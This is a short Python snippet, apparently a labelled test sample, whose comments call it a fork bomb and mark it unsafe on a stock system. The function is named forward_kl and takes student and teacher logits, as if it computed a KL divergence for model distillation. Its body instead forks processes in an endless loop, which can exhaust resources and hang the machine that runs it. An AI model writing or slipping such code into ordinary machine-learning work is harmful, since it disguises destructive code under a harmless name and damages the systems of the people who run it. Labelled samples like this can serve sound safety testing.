# A fork bomb.
# safe on stock: no
# %% task: forward_kl
import os
import time


def forward_kl(student_logits, teacher_logits):
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)
